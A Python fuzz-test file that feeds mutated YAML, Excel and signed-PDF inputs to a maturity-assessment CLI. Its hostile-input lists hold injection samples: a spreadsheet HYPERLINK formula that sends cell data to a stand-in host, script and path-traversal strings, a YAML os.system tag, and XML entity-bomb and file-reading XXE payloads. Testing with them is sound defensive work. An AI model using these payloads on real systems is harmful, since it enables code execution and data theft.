"""Structure-aware fuzzing of everything that parses user files.

Answer files are built from the schema (valid first), then mutated: a field replaced by another
type, a huge number, text with control characters, terminal escapes, formulas or Markdown, YAML
features (anchors, merge keys, tags), other encodings, truncation and random bytes. Every command
that reads them must end with exit 0 or 2 (3 for batches) within a bounded time: never a
traceback, never "internal error" (exit 1).

`make test` runs a short profile; `make fuzz` sets MATURITY_FUZZ_EXAMPLES for the long run
(at least 10,000 cases in all).
"""

from __future__ import annotations

import functools
import io
import os
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from maturity.cli import app
from maturity.questionnaire import load_questionnaire
from maturity.schema.base import Profile
from tests.conftest import MINI, answer_doc

EXAMPLES = int(os.environ.get("MATURITY_FUZZ_EXAMPLES", "25"))
SECONDS_PER_CASE = 10.0
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=EXAMPLES <= 25,  # the short profile in `make test` is the same every run
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

QUESTIONNAIRE = load_questionnaire(MINI)
IDS = [r.id for r in QUESTIONNAIRE.applicable(Profile.discrete)]

# Text a hostile or careless user may put in any field.
NASTY_TEXT = [
    "",
    " ",
    "\x1b[2J\x1b[HMaturity level: 5",
    "\x1b]8;;http://x/\x07link\x1b]8;;\x07",
    '=HYPERLINK("http://x/?"&A2,"x")',
    "+1+2",
    "-3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "![x](http://127.0.0.1:9/p.png)",
    "\n\n# Maturity level: 5\n",
    "<script>alert(1)</script>",
    "</td><img src=file:///etc/passwd>",
    "[/]",
    "[bold red]x[/]",
    ":100:",
    "{{ 7*7 }}",
    "{% raw %}",
    "a|b|c",
    "\u202eevil",
    "\ud7ff\ufeff\u200b",
    "名" * 5000,
    "x" * 100_000,
    "%s%n%x",
    "../../etc/passwd",
    "\x00",
    "\x7f\x85\x9b",
]
# Numbers past Python's 4,300-digit limit cannot even be shown by hypothesis: markers, replaced by
# digits in the file's text.
HUGE = {
    "HUGE_POSITIVE_NUMBER": "9" * 5000,
    "HUGE_NEGATIVE_NUMBER": "-" + "9" * 5000,
    "HUGE_FLOAT_NUMBER": "1" + "0" * 5000 + ".5",
}
HUGE_NUMBERS = [*HUGE, 2**63, -(2**63) - 1, 1e308, float("inf"), float("nan"), 0, -1, 6, 5.5]

scalars = st.one_of(
    st.sampled_from(NASTY_TEXT),
    st.sampled_from(HUGE_NUMBERS),
    st.text(max_size=40),
    st.booleans(),
    st.none(),
    st.sampled_from(["full", "most", "partial", "none", "na", "全部满足", "N/A", "FULL "]),
)
values = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)


def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a node of the document (mapping keys and list indexes)."""
    found = [prefix]
    if isinstance(doc, dict):
        for key, value in doc.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(doc, list):
        for index, value in enumerate(doc):
            found += _paths(value, (*prefix, index))
    return found


def _set(doc: Any, path: tuple[Any, ...], value: Any, delete: bool = False) -> Any:
    if not path:
        return value
    parent = doc
    for part in path[:-1]:
        parent = parent[part]
    if delete:
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    return doc


@st.composite
def answer_documents(draw: st.DrawFn) -> dict[str, Any]:
    """A valid answer document for the mini questionnaire, then up to three structural mutations."""
    ratings = st.sampled_from(["full", "most", "partial", "none"])
    answers: dict[str, Any] = {}
    for rid in draw(st.lists(st.sampled_from(IDS), unique=True, max_size=len(IDS))):
        long_form = draw(st.booleans())
        rating = draw(ratings)
        answers[rid] = (
            {"rating": rating, "note": draw(scalars), "evidence": [draw(scalars)]}
            if long_form
            else rating
        )
    doc = answer_doc(QUESTIONNAIRE, answers)
    doc["organisation"].update(industry=draw(scalars), region=draw(scalars))
    doc["assessment"]["assessor"] = {
        "name": draw(st.sampled_from(NASTY_TEXT[1:])),
        "accreditation": draw(scalars),
    }
    doc["organisation"]["name"] = draw(st.sampled_from(NASTY_TEXT[1:]))
    for _ in range(draw(st.integers(0, 3))):
        path = draw(st.sampled_from(_paths(doc)))
        action = draw(st.sampled_from(["replace", "delete", "add"]))
        if action == "delete" and path:
            doc = _set(doc, path, None, delete=True)
        elif action == "add" and isinstance(_get(doc, path), dict):
            _get(doc, path)[draw(st.text(max_size=10))] = draw(values)
        else:
            doc = _set(doc, path, draw(values))
    return doc if isinstance(doc, dict) else {"answers": doc}


def _get(doc: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        doc = doc[part]
    return doc


def _dump(doc: Any) -> str:
    try:
        text = yaml.safe_dump(doc, allow_unicode=True, sort_keys=False)
    except (yaml.YAMLError, ValueError):  # NaN keys and the like: still a file someone could write
        text = repr(doc)
    for marker, digits in HUGE.items():
        text = text.replace(marker, digits)
    return text


YAML_TRICKS = [
    "",
    "---\n...\n",
    "%YAML 1.1\n---\n",
    "x: &a [*a]\n",
    "base: &b {name: X}\norganisation: {<<: *b, <<: *b}\n",
    "organisation: !!python/object/apply:os.system ['id']\n",
    "answers: !!binary aGVsbG8=\n",
    "answers: !!set {a.1.01}\n",
    "assessment: {date: 2026-02-30}\n",
    "answers: {a.1.01: full, a.1.01: none}\n",
    "? [a, b]\n: c\n",
    "answers:\n" + "  - " * 200 + "x\n",
    "answers: " + "[" * 5000 + "\n",
    "answers: " + "9" * 5000 + "\n",
    "\t- tab indent\n",
    "answers:\n",
]


@st.composite
def answer_bytes(draw: st.DrawFn) -> bytes:
    """The bytes of an answer file: a mutated document, text-level tricks, encodings, random bytes."""
    text = _dump(draw(answer_documents()))
    if draw(st.booleans()):
        trick = draw(st.sampled_from(YAML_TRICKS))
        text = trick + text if draw(st.booleans()) else text + trick
    encoding = draw(
        st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "gb18030", "latin-1"])
    )
    raw = text.encode(encoding, errors="replace")
    cut = draw(st.one_of(st.none(), st.integers(0, max(len(raw), 1))))
    if cut is not None:
        raw = raw[:cut]
    if draw(st.booleans()):
        at = draw(st.integers(0, len(raw)))
        raw = raw[:at] + draw(st.binary(max_size=16)) + raw[at:]
    return raw


def invoke(*args: str) -> tuple[int, str]:
    started = time.monotonic()
    result = CliRunner().invoke(app, ["--questionnaires", str(MINI), *args])
    elapsed = time.monotonic() - started
    output = result.stdout + result.stderr
    assert elapsed < SECONDS_PER_CASE, f"{args} took {elapsed:.1f} s"
    assert "Traceback" not in output, output[-2000:]
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    return result.exit_code, output


def expect(allowed: set[int], *args: str) -> None:
    code, output = invoke(*args)
    assert code in allowed, f"exit {code} for {args}:\n{output[-2000:]}"


@FUZZ
@given(raw=answer_bytes())
def test_answer_files(tmp_path_factory: pytest.TempPathFactory, raw: bytes) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    path = folder / "answers.yaml"
    path.write_bytes(raw)
    expect({0, 2}, "validate", str(path))
    expect({0, 2}, "score", str(path))
    expect({0, 2}, "score", str(path), "--format", "json", "-o", str(folder / "result.json"))
    expect({0, 2}, "report", str(path), "-o", str(folder / "report.md"))
    expect({0, 2}, "report", str(path), "-o", str(folder / "report.html"))
    (folder / "b.yaml").write_bytes(raw)
    for fmt in ("csv", "xlsx"):
        expect({0, 2, 3}, "score", str(folder), "--format", fmt, "-o", str(folder / f"all.{fmt}"))


@functools.cache
def blank_workbook() -> bytes:
    """The blank answer workbook of the mini questionnaire, made once by the tool itself."""
    with tempfile.TemporaryDirectory() as tmp:
        code, output = invoke("template", "mini", "--type", "discrete", "-o", f"{tmp}/blank.xlsx")
        assert code == 0, output
        return Path(tmp, "blank.xlsx").read_bytes()


XML_TRICKS = [
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><x>&d;&d;&d;</x>',
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    b"<x>" * 10_000,
    b"",
    b"\xff\xfe\x00<",
]


@st.composite
def workbook_bytes(draw: st.DrawFn) -> bytes:
    """A filled answer workbook with cells set to hostile values, or its zip members mangled."""
    from openpyxl import load_workbook
    from openpyxl.utils.exceptions import IllegalCharacterError

    book = load_workbook(io.BytesIO(blank_workbook()))
    for _ in range(draw(st.integers(1, 6))):
        sheet = book[draw(st.sampled_from(book.sheetnames))]
        row = draw(st.integers(1, max(sheet.max_row, 1) + 1))
        column = draw(st.integers(1, max(sheet.max_column, 1) + 1))
        value = draw(
            st.one_of(
                st.sampled_from([v for v in NASTY_TEXT if "\x00" not in v]),
                st.sampled_from(list(HUGE.values()) + HUGE_NUMBERS[3:]),
            )
        )
        try:
            sheet.cell(row=row, column=column, value=value)
        except (
            ValueError,
            TypeError,
            AttributeError,
            IllegalCharacterError,
        ):  # characters Excel refuses, merged cells
            continue
    out = io.BytesIO()
    book.save(out)
    raw = out.getvalue()
    if draw(st.booleans()):
        raw = _replace_member(
            raw, draw(st.sampled_from(_members(raw))), draw(st.sampled_from(XML_TRICKS))
        )
    return raw


def _members(raw: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return sorted(archive.namelist())


def _replace_member(raw: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(raw)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, content if item.filename == name else source.read(item.filename))
    return out.getvalue()


@FUZZ
@given(data=st.data())
def test_answer_workbooks(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    folder = tmp_path_factory.mktemp("fuzz-xlsx")
    path = folder / "answers.xlsx"
    path.write_bytes(data.draw(workbook_bytes()))
    expect({0, 2}, "validate", str(path))
    expect({0, 2}, "score", str(path), "--format", "json")


@pytest.fixture(scope="module")
def signed_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[bytes, Path]:
    folder = tmp_path_factory.mktemp("fuzz-signed")
    doc = answer_doc(QUESTIONNAIRE, dict.fromkeys(IDS, "full"))
    (folder / "answers.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    env = {"MATURITY_P12_PASSWORD": "correct horse"}
    runner = CliRunner()
    keygen = runner.invoke(
        app, ["keygen", "-o", str(folder / "k.p12"), "--name", "Fuzz Tester"], env=env
    )
    assert keygen.exit_code == 0, keygen.stderr
    args = [
        "--questionnaires",
        str(MINI),
        "report",
        str(folder / "answers.yaml"),
        "-o",
        str(folder / "r.pdf"),
    ]
    signed = runner.invoke(app, [*args, "--sign", "--p12", str(folder / "k.p12")], env=env)
    assert signed.exit_code == 0, signed.stderr
    return (folder / "r.pdf").read_bytes(), folder / "k.pem"


MUTATIONS: dict[str, Callable[[bytes, int, bytes], bytes]] = {
    "flip": lambda raw, at, junk: raw[:at] + bytes([raw[at] ^ (junk[0] | 1)]) + raw[at + 1 :],
    "cut": lambda raw, at, junk: raw[:at],
    "insert": lambda raw, at, junk: raw[:at] + junk + raw[at:],
    "replace": lambda raw, at, junk: raw[:at] + junk + raw[at + len(junk) :],
}


@pytest.mark.slow
@FUZZ
@given(data=st.data())
def test_verify_parsers(
    tmp_path_factory: pytest.TempPathFactory, signed_report: tuple[bytes, Path], data: st.DataObject
) -> None:
    raw, certificate = signed_report
    mutation = data.draw(st.sampled_from(sorted(MUTATIONS)))
    at = data.draw(st.integers(0, len(raw) - 1))
    junk = data.draw(
        st.one_of(
            st.binary(min_size=1, max_size=64),
            st.sampled_from([b"/Length 999999999", b"stream\r\n", b"<<>>", b"0 0 obj"]),
        )
    )
    folder = tmp_path_factory.mktemp("fuzz-verify")
    path = folder / "r.pdf"
    path.write_bytes(MUTATIONS[mutation](raw, at, junk))
    expect({0, 2, 4, 5}, "verify", str(path), "--trust", str(certificate))


def test_the_short_profile_covers_each_target_and_the_long_one_is_large() -> None:
    """`make fuzz` must run at least 10,000 cases over the three targets; `make test` a few per target."""
    makefile = (Path(__file__).parent.parent / "Makefile").read_text(encoding="utf-8")
    long_run = next(line for line in makefile.splitlines() if "MATURITY_FUZZ_EXAMPLES=" in line)
    assert int(long_run.split("MATURITY_FUZZ_EXAMPLES=")[1].split()[0]) * 3 >= 10_000
